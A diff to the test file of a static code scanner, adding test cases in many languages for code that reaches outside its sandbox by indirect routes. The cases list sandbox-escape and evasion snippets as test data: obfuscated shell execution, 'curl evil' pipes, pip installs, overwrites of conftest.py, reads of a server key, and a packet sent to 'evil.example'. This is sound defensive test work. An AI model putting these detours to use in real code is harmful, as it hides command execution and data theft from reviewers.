@@ -173,6 +173,96 @@ def test_a_kind_that_is_not_known_is_not_looked_into(path: str) -> None:
     assert [found.kind for found in scan_code("x", path)] == ["unreadable"]
 
 
+DETOURS = [
+    ("a.py", "# x\rimport subprocess"),
+    ("a.py", "x = f'''\n# {__import__('os')}\n'''"),
+    ("a.py", "import random\nrandom._os.system('id')"),
+    ("a.py", "import glob\nx = glob.os"),
+    ("a.py", "x.system('id')"),
+    ("a.py", "import sys as s"),
+    ("a.py", "from glob import (os as o)"),
+    ("a.py", "s.modules['o' 's']"),
+    ("a.py", "a, b = 1, os"),
+    ("a.py", "m = os if 1 else 0"),
+    ("a.py", "d = {'a': os}"),
+    ("a.py", "inspect.currentframe().f_builtins['eval']('1')"),
+    ("a.py", "gc.get_objects()"),
+    ("a.py", "loop.subprocess_shell(p, 'id')"),
+    ("a.py", "import logging.handlers as h\nh.HTTPHandler('e', '/x')"),
+    ("a.py", "import pip\npip.main(['install', 'evil'])"),
+    ("a.py", "from aver.cli import main"),
+    ("a.js", "// x\rrequire('child_process')"),
+    ("a.js", "// x\u2028require('child_process')"),
+    ("a.js", "const f = fetch; f(x)"),
+    ("a.js", "fetch.call(0, x)"),
+    ("a.js", "const r = require; r('child' + '_process')"),
+    ("a.js", "require('../notes.txt')"),
+    ("a.js", "require('./logo.png')"),
+    ("a.js", "import x from './notes.txt'"),
+    ("a.js", "[]['constructor']['constructor'](x)()"),
+    ("a.rb", "system 'curl evil'"),
+    ("a.rb", "open('|curl evil')"),
+    ("a.rb", "send(:system, 'id')"),
+    ("a.rb", "require 'net/http'"),
+    ("a.pl", "exec 'id';"),
+    ("a.pl", "open(F, 'id|');"),
+    ("a.awk", 'BEGIN { "curl evil" | getline x }'),
+    ("a.awk", 'BEGIN { print 1 | "sh" }'),
+    ("a.tcl", "exec curl evil"),
+    ("a.lua", "local o=os; o.execute('id')"),
+    ("a.php", "$f='sys'.'tem'; $f('id');"),
+    ("a.jl", 'run(Cmd(["id"]))'),
+    ("a.r", "system2('id')"),
+    ("a.hs", 'import System.Process\nmain = callCommand "id"'),
+    ("a.clj", "(use 'clojure.java.shell)"),
+    ("a.erl", 't() -> os:cmd("id").'),
+    ("a.el", '(shell-command "id")'),
+    ("a.rkt", '(system "id")'),
+    ("a.cl", '(uiop:run-program "id")'),
+    ("a.nim", 'const x = staticExec("id")'),
+    ("a.d", 'executeShell("id");'),
+    ("a.zig", "std.process.Child.run(.{})"),
+    ("a.groovy", "'id'.execute()"),
+    ("a.scala", 'import sys.process._\n"id".!'),
+    ("a.go", "import e `os/exec`"),
+    ("a.go", 'import (\n\t// void f() { system("id"); }\n\t"C"\n)'),
+    ("a.rs", "use std::{process::{Command as C}};"),
+    ("a.c", "#define R(a, b) a##b"),
+    ("a.c", '#include "notes.txt"'),
+    ("a.java", '// \\u000aRuntime.getRuntime().exec("id");'),
+    ("a.java", 'URI.create("x").toURL().openStream();'),
+    ("a.swift", 'let s = """\n// \\(Process())\n"""'),
+    ("a.cs", 'var s = $@"\n// {System.Diagnostics.Process.Start(x)}\n";'),
+    ("a.sql", "COPY x TO PROGRAM 'curl evil';"),
+]
+
+
+@pytest.mark.parametrize(("path", "text"), DETOURS)
+def test_code_that_reaches_out_by_a_detour_is_found(path: str, text: str) -> None:
+    assert scan_code(f"{text}\n", path)
+
+
+@pytest.mark.parametrize(
+    ("path", "text"),
+    [
+        ("a.py", "import platform\nsystem = platform.system()\nprint(self.os, os.path.sep)\nimport sys, os\n"),
+        ("a.js", "import logo from './logo.svg'\nconst a = require('./a')\nstore.fetchItems(x)\n// a plain comment\n"),
+        ("a.rb", "items.map { |x| \"#{x}\" }\nname = other || 'default'\n"),
+        ("a.c", '#include <stdio.h>\n#include "a.h"\n// a plain comment about exec\n'),
+        ("a.java", "statement.execute(sql);\n"),
+        ("a.rs", "use std::collections::HashMap;\n"),
+    ],
+)
+def test_code_that_looks_like_a_detour_is_left_alone(path: str, text: str) -> None:
+    assert scan_code(text, path) == ()
+
+
+def test_a_program_of_javascript_reads_no_file_by_an_error_in_it() -> None:
+    assert scan_javascript_program("require('./server.key')")
+    assert scan_javascript_program("arguments[1](name)")
+    assert not scan_javascript_program("console.log(require('./package.json').version, require('./src/a'))")
+
+
 def test_texts_beyond_the_bounds_are_not_looked_into() -> None:
     assert [found.kind for found in scan_code("x\n" * TEXT_MAX, "a.py")] == ["unreadable"]
     assert [found.kind for found in scan_code("x" + " " * LINE_MAX, "a.py")] == ["unreadable"]
@@ -329,6 +419,73 @@ def test_a_program_that_reaches_out_is_found(text: str) -> None:
     ],
 )
 def test_a_program_that_reaches_nowhere_has_no_finding(text: str) -> None:
+    assert scan_python_program(text, is_inside=lambda path: not path.startswith(("/", ".."))) == ()
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "import os\nx = os.path.os\nx.system('id')",
+        "import random\nrandom._os.system('id')",
+        "from glob import (os as o)\no.system('id')",
+        "import app\nx = app._os\nx.system('id')",
+        "import sys as s\ns.modules['o' 's'].system('id')",
+        "import typing\ns = typing.sys\ns.modules",
+        "import os\na, b = 1, os\nb.system('id')",
+        "import os\nm = 0 or os\nm.system('id')",
+        "import os\n(lambda m=os: m.system('id'))()",
+        "import os\nmatch os:\n  case object(system=f): f('id')",
+        "import operator, random\noperator.attrgetter('_os.system')(random)('id')",
+        "import random\ngetattr(random, '_os')",
+        "import unittest.mock\nunittest.mock._importer('o' 's').system('id')",
+        "import unittest.mock\nunittest.mock.pkgutil",
+        "g = (x for x in ())\ng.gi_frame.f_builtins['eval']('1')",
+        "import inspect\ninspect.currentframe()",
+        "import gc\ngc.get_objects()",
+        "import typing\ndef f(x: 'print(1)'): ...\ntyping.get_type_hints(f)",
+        "import inspect\ninspect.signature(print, eval_str=True)",
+        "loop.subprocess_shell(p, 'id')",
+        "loop.create_datagram_endpoint(p, remote_addr=('evil.example', 1))",
+        "import logging\nlogging.FileHandler('conftest.py')",
+        "import logging\nlogging.basicConfig(filename='conftest.py')",
+        "import argparse\nargparse.FileType('w')('conftest.py')",
+        "import argparse\nargparse.ArgumentParser(fromfile_prefix_chars='@')",
+        "o = open\no('conftest.py', 'w')",
+        "print(*map(open, names))",
+        "from io import open as o\no('conftest.py', 'w')",
+        "import io\no = io.open\no('conftest.py', 'w')",
+        "import io\nio.open_code(name)",
+        "from pathlib import Path as P\nP(name).read_text()",
+        "from pathlib import Path\nprint(Path('a').absolute().parents[3])",
+        "from pathlib import Path\nprint((Path.cwd().parent / 'a').read_text())",
+        "from pathlib import Path\nprint((Path('a') / name).read_text())",
+        "import traceback\ntraceback.linecache.getlines(name)",
+        "import pip\npip.main(['install', 'evil'])",
+        "from aver.cli import main\nmain(['policy', 'allow'])",
+        "import pandas as pd\npd.eval(text)",
+        "import pandas as pd\npd.read_csv(name)",
+        "import numpy\nnumpy.load('x.npy', allow_pickle=True)",
+        "import sys\nsys.breakpointhook()",
+        "from os.path import *",
+    ],
+)
+def test_a_program_that_goes_a_detour_is_found(text: str) -> None:
+    assert scan_python_program(text, is_inside=lambda path: not path.startswith(("/", "..")))
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "from pathlib import Path\ndef f(p: Path) -> Path:\n    assert isinstance(p, Path)\n    return p",
+        "from pathlib import Path\nprint((Path(__file__).resolve().parent / 'a.json').read_text())",
+        "import app\nprint(app._parse('1'), app.model.eval(), app.node.parent, 3 / app.x)",
+        "import logging\nlogging.basicConfig(level=logging.DEBUG)",
+        "import asyncio\nasyncio.run(main())",
+        "import inspect, app\nprint(inspect.getsource(app.f), inspect.signature(app.f))",
+        "import sys\nprint(sys.version, sys.argv[1:], sys.getsizeof(1))",
+    ],
+)
+def test_a_program_that_goes_none_has_no_finding(text: str) -> None:
     assert scan_python_program(text, is_inside=lambda path: not path.startswith(("/", ".."))) == ()
 
 
